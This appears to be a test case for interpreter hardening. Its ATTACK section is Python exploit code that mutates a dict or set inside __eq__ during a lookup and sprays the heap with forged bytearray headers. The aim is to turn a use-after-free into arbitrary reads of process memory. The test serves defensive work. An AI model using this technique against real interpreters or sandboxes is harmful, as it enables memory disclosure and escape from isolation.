# Tries: a board program whose keys change their dict or set while it is searched: freed memory, filled with an object of its own making, would be read as a value and give a view of the whole process.
# Ends: the interpreter compares the table before and after each __eq__(); what was changed is an error.
### ATTACK
import struct

kept, seen, ours = [], [], []


def view(address, size):
    """An array as it lies in memory (type, kind, length, address), and where these words lie."""
    words = bytearray(struct.pack("<IIII", id(bytearray), 1, size, address))
    ours.append(words)
    return id(words) + 16


false = struct.pack("<I", view(0x08048000, 64))


class Key:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        table.clear()
        kept.append([bytearray(false * size * 2) for size in (2, 4, 6, 8, 10, 12) for _ in range(20)])
        return isinstance(table, dict)


for search in (
    lambda: table[Key()],
    lambda: table.get(Key()),
    lambda: table.pop(Key()),
    lambda: table.setdefault(Key(), 1),
):
    table = {}
    table[Key()] = 1
    try:
        found = search()
        if type(found) is bytearray:
            seen.append(bytes(found[:64]))
    except (RuntimeError, KeyError):
        pass
for search in (lambda: table.add(Key()), lambda: Key() in table, lambda: table.discard(Key())):
    table = set()
    table.add(Key())
    try:
        search()
    except RuntimeError:
        pass
if seen:
    print("reads the process", seen[0])
kept = seen = table = None
### END
### BASE
